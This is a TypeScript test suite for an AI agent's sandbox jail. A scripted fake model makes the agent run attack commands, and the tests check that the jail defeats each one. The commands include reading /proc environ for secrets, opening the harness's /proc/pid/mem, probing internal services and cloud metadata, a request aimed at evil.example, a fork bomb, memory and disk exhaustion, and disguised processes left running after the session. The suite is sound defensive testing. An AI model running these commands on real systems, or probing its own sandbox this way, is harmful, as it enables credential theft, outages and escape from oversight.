import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { say, shell, uniqueId, type FakeScript } from '@threadwork/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createThread, readLog, waitFor, waitForTerminal } from '../chaos/support/api.js';
import { Cluster, type ChaosUser } from '../chaos/support/cluster.js';
import { root } from '../support/process-stack.js';
import { processesMatching } from './support.js';

/** The jail's model bridge, by the path its command line shows. */
const BRIDGE = join(root, 'services', 'runner', 'jail', 'bridge.mjs');

// The agent as an attacker inside its sandbox, against the jail (src/sandbox/jail.ts in the
// runner): the real codex binary, driven by the fake model, runs each attack as a shell command in
// a whole deployment, and writes what it found into its workspace for the test to read.

const MODEL_KEY = `sk-jail-${uniqueId()}`;
const SESSION_SECRET = `session-${uniqueId()}`.padEnd(48, 's');

/** One attack per prompt: the command runs, then the agent says it is done. */
const attacks = new Map<string, string>();
const scripts = new Map<string, FakeScript>([
  [
    'ATTACK',
    (req) => {
      if (req.toolOutputsSinceLastUser.length > 0) return [say('Done.')];
      const name = req.lastUserText.split(' ')[1] ?? '';
      return [shell(attacks.get(name) ?? 'echo unknown attack')];
    },
  ],
]);

/** Where the runner runs as root (as in CI), each sandbox's jail runs as a uid of its own outside. */
const ROOT = process.getuid?.() === 0;
const OUTSIDE_LAYER = ROOT ? 'outside-uid-per-sandbox' : `outside-uid-runner-${process.getuid?.()}`;

/** The host's Yama ptrace restriction; absent where the kernel has no Yama. */
const YAMA = '/proc/sys/kernel/yama/ptrace_scope';

/** A process's real uid, from /proc. */
function realUid(pid: number): number {
  return Number(/^Uid:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1]);
}

let cluster: Cluster;
let user: ChaosUser;
/** A server on this machine that the egress policy lets the agent reach (a package mirror, say). */
let mirror: Server;
let mirrorPort: number;

beforeAll(async () => {
  mirror = createServer((req, res) => res.end(`mirror answered ${req.url}`));
  await new Promise<void>((resolve) => mirror.listen(0, '127.0.0.1', resolve));
  mirrorPort = (mirror.address() as { port: number }).port;
  // Sandboxes outside the temporary directory, as in a deployment: Codex's own sandbox (the second
  // layer) leaves the temporary directory writable, so it is only used where sandboxes live elsewhere.
  mkdirSync('/var/tmp', { recursive: true });
  const sandboxRoot = mkdtempSync('/var/tmp/threadwork-hostile-');
  cluster = await Cluster.start({
    runners: 1,
    scripts,
    sandboxRoot,
    env: { SESSION_SECRET },
    runnerEnv: {
      MODEL_API_KEY: MODEL_KEY,
      SANDBOX_JAIL: 'required',
      CODEX_SANDBOX_MODE: 'workspace-write',
      SANDBOX_PIDS_MAX: '256',
      SANDBOX_MEMORY_MAX_BYTES: String(768 * 2 ** 20),
      SANDBOX_TMP_MAX_BYTES: String(64 * 2 ** 20),
      SANDBOX_DISK_MAX_BYTES: String(128 * 2 ** 20),
      SANDBOX_DISK_CHECK_MS: '500',
      SANDBOX_EGRESS: 'allowlist',
      SANDBOX_EGRESS_ALLOW: `localhost:${mirrorPort}`,
    },
  });
  user = cluster.createUser();
});
afterAll(async () => {
  await cluster?.stop();
  await new Promise((resolve) => mirror?.close(resolve));
});

/** Runs one attack in a thread of its own; answers what it wrote to `found.txt` in its workspace. */
async function attack(
  name: string,
  command: string,
): Promise<{ found: string; threadId: string; runId: string; repo: string }> {
  attacks.set(name, `{ ${command}\n} > found.txt 2>&1; true`);
  const repo = uniqueId('jail');
  const repositoryId = await cluster.addRepo(user, repo);
  const thread = await createThread(cluster, user, { repository_id: repositoryId, prompt: `ATTACK ${name}` });
  const run = await waitForTerminal(cluster, user, thread.run_id, 120_000);
  expect(run.status, JSON.stringify(run.error)).toBe('completed');
  const file = join(cluster.sandboxRoot, thread.id, repo, 'found.txt');
  if (!existsSync(file)) {
    const log = await readLog(cluster, user, thread.run_id);
    const outputs = cluster
      .fake!.requests.filter((r) => r.lastUserText === `ATTACK ${name}`)
      .map((r) => r.toolOutputsSinceLastUser);
    throw new Error(
      `${name}: no found.txt; ${JSON.stringify(log.map((e) => e.chunk)).slice(0, 4000)} ${JSON.stringify(outputs).slice(0, 2000)}`,
    );
  }
  const found = readFileSync(file, 'utf8');
  return { found, threadId: thread.id, runId: thread.run_id, repo };
}

describe('an agent in its jail', () => {
  it('finds no secret in any process environment it can see, and none of the host’s processes', async () => {
    const { found } = await attack(
      'environ',
      [
        'for f in /proc/[0-9]*/environ; do echo "== $f"; tr "\\0" "\\n" < "$f"; done',
        'echo "== processes"; for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline; echo; done',
      ].join('\n'),
    );
    expect(found).toContain('== processes');
    expect(found).toContain('CODEX_HOME=');
    const natsSeeds = Object.values(cluster.natsAuth.keys).map((key) => key.seed);
    for (const secret of [MODEL_KEY, SESSION_SECRET, cluster.env.NATS_URL!, cluster.env.MONGO_URL!, ...natsSeeds]) {
      expect(found).not.toContain(secret);
    }
    expect(found).not.toMatch(/NATS_URL|NATS_NKEY_SEED|MONGO_URL|SESSION_SECRET|MODEL_API_KEY/);
    expect(found).not.toContain('runner/dist/main.js');
    expect(found).not.toContain('nats-server');
    // The model still got its key: the runner's proxy adds it outside the jail.
    const asked = cluster.fake!.requests.filter((r) => r.lastUserText === 'ATTACK environ');
    expect(asked.length).toBeGreaterThan(0);
    for (const request of asked) expect(request.authorization).toBe(`Bearer ${MODEL_KEY}`);
  });

  it('runs as an ordinary user in two layers, said in its run’s first event and the runner’s start log', async () => {
    const { found, runId } = await attack(
      'layers',
      [
        'echo "uid: $(id -u)"',
        'echo "home: $(echo home > "$HOME/.probe" && cat "$HOME/.probe")"',
        'echo "tmp: $(echo tmp > /tmp/.probe && cat /tmp/.probe)"',
        '(echo "model_provider = 1" >> "$CODEX_HOME/config.toml") 2>/dev/null && echo "wrote codex config"',
        '(echo fill > /run/threadwork/fill) 2>/dev/null && echo "wrote the gates’ directory"',
      ].join('\n'),
    );
    expect(found).toContain('uid: 1000');
    expect(found).toContain('home: home');
    expect(found).toContain('tmp: tmp');
    // Codex's sandbox keeps the agent's commands off the harness's own state (its configuration, its sessions).
    expect(found).not.toContain('wrote codex config');
    // The gates' sockets sit in a directory of the runner's: the jail sees it read-only.
    expect(found).not.toContain('wrote the gates’ directory');
    const events = await readLog(cluster, user, runId);
    const ready = events.map((e) => e.chunk as { type: string }).find((c) => c.type !== 'run.status');
    expect(ready).toMatchObject({ type: 'sandbox.ready', egress: 'allowlist' });
    const layers = (ready as unknown as { layers: string[] }).layers;
    expect(layers[0]).toBe('bubblewrap-jail');
    expect(layers).toContain('codex-workspace-write');
    expect(layers).toContain('user-namespace-uid-1000-no-capabilities');
    expect(layers).toContain('seccomp-no-ptrace-no-io-uring');
    expect(layers).toContain('harness-memory-guard-codex-sandbox');
    expect(layers).toContain(OUTSIDE_LAYER);
    expect(cluster.runners()[0]!.output()).toContain('codex-workspace-write');
    expect(cluster.runners()[0]!.output()).toContain(OUTSIDE_LAYER);
    expect(cluster.runners()[0]!.output()).toContain('harness-memory-guard-codex-sandbox');
  });

  it('cannot write into the harness’s memory, and sees none of the host’s layout or configuration', async () => {
    // Every process it can see but its own: the harness (Codex, holding the conversation), the
    // jail's init (holding the runner's channel to it), the model bridge. Same uid as the agent.
    const probe = [
      'import os',
      'me = os.getpid()',
      'for p in sorted(int(x) for x in os.listdir("/proc") if x.isdigit()):',
      '    if p == me: continue',
      '    try: cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\\0", b" ").decode()[:200]',
      '    except OSError: cmd = "?"',
      '    try:',
      '        open(f"/proc/{p}/mem", "r+b").close(); r = "OPEN"',
      '    except OSError as e: r = e.strerror',
      '    print(f"mem {p} {r}: {cmd}")',
    ].join('\n');
    const { found } = await attack(
      'harness-memory',
      [
        `python3 -c '${probe}'`,
        'echo "== init"; tr "\\0" " " < /proc/1/cmdline; echo',
        'echo "== hosts"; cat /etc/hosts',
        'echo "== git"; git config --system --list',
        'echo "== end"',
      ].join('\n'),
    );
    const harness = found.split('\n').filter((line) => /^mem \d+ .*(app-server|bwrap|bridge\.mjs)/.test(line));
    for (const line of harness) expect(line).not.toMatch(/^mem \d+ OPEN/);
    const section = (name: string) => found.split(`== ${name}\n`)[1]!.split('\n== ')[0]!.trim();
    for (const hidden of ['.jail-programs', 'threadwork-seccomp', 'threadwork-jail', cluster.dir]) {
      expect(section('init'), found).not.toContain(hidden);
    }
    expect(section('hosts')).toBe(
      ['127.0.0.1\tlocalhost', '::1\tlocalhost ip6-localhost ip6-loopback', '127.0.1.1\tsandbox'].join('\n'),
    );
    expect(section('git')).toBe(['credential.helper=', 'protocol.ext.allow=never', 'core.fsmonitor=false'].join('\n'));
  });

  it('never runs beside a harness whose memory it could write: without Codex’s sandbox, only where Yama forbids it', async () => {
    // The same deployment, another runner without Codex's sandbox around the agent's commands.
    const yama = existsSync(YAMA) ? Number(readFileSync(YAMA, 'utf8')) : null;
    const starting = cluster.startRunner({ CODEX_SANDBOX_MODE: 'danger-full-access' });
    if (yama !== null && yama >= 1) {
      const runner = await starting;
      await runner.stop();
      expect(runner.output()).toContain(`harness-memory-guard-yama-ptrace-scope-${yama}`);
      return;
    }
    // This machine's kernel lets a process write the memory of another of its uid: the runner
    // refuses to start, and says why. (Whether it was seen to exit before its readiness check
    // answered or after, it exits.)
    const started = await starting.catch((err: Error) => err);
    let said: string;
    if (started instanceof Error) said = started.message;
    else {
      await started.exited;
      said = started.output();
    }
    expect(said).toMatch(
      /SANDBOX_JAIL=required, but the agent's commands would run beside the harness as its uid with nothing to keep them out of its memory/,
    );
  });

  it('is, outside its jail, a uid of its sandbox’s own: not root, not the runner, not another sandbox', async (ctx) => {
    if (!ROOT) ctx.skip();
    const uidOf = (threadId: string) =>
      (JSON.parse(readFileSync(join(cluster.sandboxRoot, threadId, 'threadwork.json'), 'utf8')) as { uid: number }).uid;
    const { found, threadId, repo } = await attack('owner', 'echo "uid: $(id -u)"; echo mine > mine.txt');
    expect(found).toContain('uid: 1000');
    const uid = uidOf(threadId);
    expect(uid).toBeGreaterThanOrEqual(200000);
    expect(uid).toBeLessThan(265535);
    // What it writes in its workspace is that uid's, not root's.
    for (const file of ['found.txt', 'mine.txt']) {
      const stat = statSync(join(cluster.sandboxRoot, threadId, repo, file));
      expect([stat.uid, stat.gid], file).toEqual([uid, uid]);
    }
    // The harness kept warm for the thread's next run, and all it runs, are that uid outside.
    const runner = cluster.runners()[0]!;
    const harness = cluster.harnessPids(runner.pid, threadId);
    expect(harness.length).toBeGreaterThan(0);
    for (const pid of harness) expect(realUid(pid), `process ${pid}`).toBe(uid);
    // Another thread's sandbox has another.
    const other = await attack('owner-other', 'echo "uid: $(id -u)"');
    expect(uidOf(other.threadId)).not.toBe(uid);
  });

  it('cannot list or read another thread’s workspace, nor the deployment’s data', async () => {
    const other = await attack('plant', 'echo "another user’s secret" > secret.txt; cat secret.txt');
    expect(other.found).toContain('another user’s secret');
    const otherFile = join(cluster.sandboxRoot, other.threadId, other.repo, 'secret.txt');
    const { found } = await attack(
      'snoop',
      [
        `echo "== sandboxes"; ls -a ${cluster.sandboxRoot}`,
        `echo "== other"; cat ${otherFile}`,
        `echo "== data"; ls -a ${cluster.dir}`,
        `echo "== repos"; ls -a ${cluster.reposDir}`,
      ].join('\n'),
    );
    expect(found).not.toContain('another user’s secret');
    const listing = found.slice(found.indexOf('== sandboxes'), found.indexOf('== other'));
    expect(listing).not.toContain(other.threadId);
    expect(found).not.toMatch(/ferretdb|nats\b/);
    expect(found).toMatch(/== other\n.*No such file or directory/);
  });

  it('reaches neither NATS, nor the database, nor any address outside', async () => {
    const [natsHost, natsPort] = new URL(cluster.env.NATS_URL!).host.split(':');
    const [mongoHost, mongoPort] = new URL(cluster.env.MONGO_URL!).host.split(':');
    const probe = (label: string, host: string, port: string) =>
      `if timeout 5 bash -c 'exec 3<>/dev/tcp/${host}/${port}' 2>/dev/null; then echo "${label}: connected"; else echo "${label}: refused"; fi`;
    const { found } = await attack(
      'network',
      [
        probe('nats', natsHost!, natsPort!),
        probe('mongo', mongoHost!, mongoPort!),
        probe('outside', '1.1.1.1', '80'),
        probe('model', new URL(cluster.fake!.baseUrl).hostname, new URL(cluster.fake!.baseUrl).port),
        // Through the jail's bridge, the rest of the provider's API (which the key would open).
        ...['/v1/files', '/v1/organization/users', '/v1/%2e%2e/admin', '/v1/responses/../files', '/admin'].map(
          (path) => `echo "proxy ${path}: $(curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:18080${path})"`,
        ),
        // A turn's request whose body has the provider reach out for the agent: an MCP server of its own.
        `echo "proxy mcp: $(curl -s -o /dev/null -w '%{http_code}' -H 'content-type: application/json' -d '{"model":"m","input":"x","tools":[{"type":"mcp","server_url":"https://evil.example/mcp"}]}' http://127.0.0.1:18080/v1/responses)"`,
      ].join('\n'),
    );
    expect(found).toContain('nats: refused');
    expect(found).toContain('mongo: refused');
    expect(found).toContain('outside: refused');
    // Not even the model endpoint directly: only through the runner's proxy.
    expect(found).toContain('model: refused');
    expect(found).not.toContain('connected');
    for (const path of [
      '/v1/files',
      '/v1/organization/users',
      '/v1/%2e%2e/admin',
      '/v1/responses/../files',
      '/admin',
    ]) {
      expect(found).toContain(`proxy ${path}: 403`);
    }
    expect(found).toContain('proxy mcp: 403');
  });

  it('goes out only through the egress proxy, to the hosts allowed; each refusal is in the run’s events and the runner’s log', async () => {
    const [natsHost, natsPort] = new URL(cluster.env.NATS_URL!).host.split(':');
    const via = `curl -sS -m 10 -x "$HTTPS_PROXY" --noproxy ''`;
    const { found, runId } = await attack(
      'egress',
      [
        'echo "proxy: $HTTPS_PROXY"',
        `echo "mirror: $(${via} http://localhost:${mirrorPort}/pkg)"`,
        `echo "unlisted: $(curl -sS -m 10 -o /dev/null -w '%{http_connect}' https://example.com/ 2>/dev/null)"`,
        `echo "metadata: $(curl -sS -m 10 -o /dev/null -w '%{http_code}' http://169.254.169.254/latest/meta-data/)"`,
        `echo "nats: $(${via} -o /dev/null -w '%{http_code}' http://${natsHost}:${natsPort}/)"`,
      ].join('\n'),
    );
    expect(found).toContain('proxy: http://127.0.0.1:18081');
    expect(found).toContain('mirror: mirror answered /pkg');
    expect(found).toContain('unlisted: 403');
    expect(found).toContain('metadata: 403');
    expect(found).toContain('nats: 403');
    const refused = (await readLog(cluster, user, runId))
      .map((e) => e.chunk as { type: string; host?: string; port?: number; reason?: string })
      .filter((c) => c.type === 'network.refused');
    expect(refused).toEqual([
      { type: 'network.refused', host: 'example.com', port: 443, reason: 'not in SANDBOX_EGRESS_ALLOW' },
      { type: 'network.refused', host: '169.254.169.254', port: 80, reason: 'not in SANDBOX_EGRESS_ALLOW' },
      { type: 'network.refused', host: natsHost, port: Number(natsPort), reason: 'not in SANDBOX_EGRESS_ALLOW' },
    ]);
    const logged = cluster
      .runners()[0]!
      .output()
      .split('\n')
      .filter((line) => line.includes('refused a connection out of the sandbox') && line.includes(runId));
    expect(logged).toHaveLength(3);
  });

  it('cannot write where the runner keeps the sandbox’s state: its state file and git directories stay as they were', async () => {
    const { found, threadId, repo } = await attack(
      'state',
      [
        'root=$(dirname "$PWD")',
        'echo "{}" > "$root/threadwork.json" && echo "wrote state"',
        'ls -a "$root"',
        'rm -r "$root/git" && echo "removed git"',
      ].join('\n'),
    );
    // Whatever it wrote stayed in the jail: the runner's state and git directories are intact.
    const state = JSON.parse(readFileSync(join(cluster.sandboxRoot, threadId, 'threadwork.json'), 'utf8'));
    expect(state.thread_id).toBe(threadId);
    expect(readFileSync(join(cluster.sandboxRoot, threadId, 'git', `${repo}.git`, 'HEAD'), 'utf8')).toContain('ref:');
    // The agent's writes went to the jail's own scratch space (and `git/` is not removable there).
    expect(found).not.toContain('removed git');
  });

  it('cannot fork-bomb or fill its /tmp past its limits: the runner and other sandboxes keep working', async () => {
    const { found, runId } = await attack(
      'bomb',
      [
        'dd if=/dev/zero of=/tmp/fill bs=1M count=100 2>&1',
        'echo "tmp holds $(du -m /tmp/fill | cut -f1) MiB"',
        'rm /tmp/fill',
        // Forks until refused; every child sleeps on, holding its slot.
        `perl -e 'for my $i (1..2000) { my $p = fork(); if (!defined $p) { print "refused at $i\\n"; exit 0 } if ($p == 0) { sleep 600; exit 0 } } print "never refused\\n"'`,
      ].join('\n'),
    );
    const refusedAt = Number(/refused at (\d+)/.exec(found)?.[1]);
    expect(found).not.toContain('never refused');
    expect(refusedAt).toBeGreaterThan(10);
    expect(refusedAt).toBeLessThan(256);
    expect(found).toMatch(/No space left on device/);
    expect(Number(/tmp holds (\d+) MiB/.exec(found)?.[1])).toBeLessThanOrEqual(64);
    const events = await readLog(cluster, user, runId);
    const ready = events
      .map((e) => e.chunk as { type: string; layers?: string[] })
      .find((c) => c.type === 'sandbox.ready');
    expect(ready?.layers).toContain('pids-max-256-cgroup');
    // Meanwhile and after, the runner serves others as before.
    const after = await attack('after-bomb', 'echo "still working"');
    expect(after.found).toContain('still working');
  });

  it('cannot take more memory than its limit: the kernel stops its process, not the runner or another sandbox', async () => {
    const { found, runId } = await attack(
      'memory',
      [
        // Touches every page, 64 MiB at a time, past the jail's 768 MiB. (Bash reports a killed
        // command with its text: what it prints is spelled differently there.)
        `python3 -c 'import sys
chunks = []
for i in range(1, 33):
    chunks.append(bytearray(64 * 2**20))
    print("holding", i * 64, "MiB", flush=True)
print("never", "stopped", flush=True)'; echo "allocation exited $?"`,
      ].join('\n'),
    );
    expect(found).not.toContain('never stopped');
    // Killed by the kernel (SIGKILL: 128 + 9) once it held about the limit.
    expect(found).toContain('allocation exited 137');
    const held = Math.max(...[...found.matchAll(/holding (\d+) MiB/g)].map((m) => Number(m[1])));
    expect(held).toBeGreaterThanOrEqual(64);
    expect(held).toBeLessThan(768);
    const events = await readLog(cluster, user, runId);
    const ready = events
      .map((e) => e.chunk as { type: string; layers?: string[] })
      .find((c) => c.type === 'sandbox.ready');
    expect(ready?.layers).toContain('memory-max-768mib-cgroup');
    const after = await attack('after-memory', 'echo "still working"');
    expect(after.found).toContain('still working');
  });

  it('cannot fill the runner’s disk: its run fails once its sandbox passes its bound, with nothing committed', async () => {
    attacks.set('diskfill', 'head -c 400M /dev/zero > fill.bin; sleep 120');
    const repo = uniqueId('jail');
    const repositoryId = await cluster.addRepo(user, repo);
    const thread = await createThread(cluster, user, { repository_id: repositoryId, prompt: 'ATTACK diskfill' });
    const run = await waitForTerminal(cluster, user, thread.run_id, 120_000);
    expect(run.status).toBe('failed');
    expect(run.error?.code).toBe('sandbox_disk_full');
    const log = cluster
      .runners()[0]!
      .output()
      .split('\n')
      .filter((line) => line.includes(thread.run_id) && line.includes('grew past its bound on disk'));
    expect(log).toHaveLength(1);
    // What filled it is gone as the run ends: the disk is every sandbox's.
    expect(readdirSync(cluster.sandboxRoot, { recursive: true }).filter((p) => String(p).endsWith('fill.bin'))).toEqual(
      [],
    );
    // The runner serves others as before.
    const after = await attack('after-fill', 'echo "still working"');
    expect(after.found).toContain('still working');
  });

  it('leaves nothing running after its run but the harness kept warm for the next', async () => {
    const marker = String(7000 + Math.floor(Math.random() * 999));
    const { threadId } = await attack(
      'linger',
      [
        `setsid sleep ${marker}1 > /dev/null 2>&1 < /dev/null &`,
        `nohup sleep ${marker}2 > /dev/null 2>&1 < /dev/null &`,
        `(trap "" HUP TERM; exec sleep ${marker}3) > /dev/null 2>&1 < /dev/null &`,
        // Named like what the harness keeps: the jail's model bridge, its Codex.
        `(exec -a "${BRIDGE} x" sleep ${marker}4) > /dev/null 2>&1 < /dev/null &`,
        `bash -c 'exec -a codex sleep ${marker}5' > /dev/null 2>&1 < /dev/null &`,
        'echo started',
      ].join('\n'),
    );
    const lingering = () => processesMatching(`sleep ${marker}`);
    await waitFor('what the agent left running to be stopped', () => (lingering().length === 0 ? true : undefined));
    const runner = cluster.runners()[0]!;
    expect(cluster.harnessPids(runner.pid, threadId).length).toBeGreaterThan(0);
  });
});

describe('an agent whose runner lets it reach any public host (SANDBOX_EGRESS=open)', () => {
  beforeAll(async () => {
    // The same deployment, its runner replaced by one in open mode.
    for (const runner of cluster.runners()) await runner.stop();
    await cluster.startRunner({ SANDBOX_EGRESS: 'open', SANDBOX_EGRESS_ALLOW: '' });
  });

  it('still reaches no internal address: loopback, private, link-local (cloud metadata), NAT64; each refusal is an event', async () => {
    // Addresses only: the proxy refuses each before any connection is tried.
    const targets: [url: string, host: string, port: number][] = [
      ['http://169.254.169.254/latest/meta-data/', '169.254.169.254', 80],
      ['https://169.254.169.254/', '169.254.169.254', 443],
      ['http://127.0.0.1/', '127.0.0.1', 80],
      ['http://localhost/', 'localhost', 80],
      ['https://10.0.0.1/', '10.0.0.1', 443],
      ['http://172.16.0.1/', '172.16.0.1', 80],
      ['http://192.168.1.1/', '192.168.1.1', 80],
      ['http://[fe80::1]/', '[fe80::1]', 80],
      ['http://[64:ff9b::a9fe:a9fe]/', '[64:ff9b::a9fe:a9fe]', 80],
      ['https://[::ffff:169.254.169.254]/', '[::ffff:169.254.169.254]', 443],
    ];
    const via = `curl -sS -m 10 -x "$HTTPS_PROXY" --noproxy ''`;
    const { found, runId } = await attack(
      'open-internal',
      targets
        .map(([url], i) => `echo "${i}: $(${via} -o /dev/null -w '%{http_code} %{http_connect}' '${url}' 2>/dev/null)"`)
        .join('\n'),
    );
    targets.forEach(([url], i) => {
      // A plain request is answered 403; a tunnel (https) is refused with 403 before it is made.
      expect(found, url).toMatch(new RegExp(`^${i}: (403 000|000 403)$`, 'm'));
    });
    const events = (await readLog(cluster, user, runId)).map(
      (e) => e.chunk as { type: string; egress?: string; host?: string; port?: number; reason?: string },
    );
    expect(events.find((c) => c.type === 'sandbox.ready')).toMatchObject({ egress: 'open' });
    expect(events.filter((c) => c.type === 'network.refused')).toEqual(
      targets.map(([, host, port]) => ({
        type: 'network.refused',
        host,
        port,
        reason: 'it resolves to an internal address',
      })),
    );
  });
});
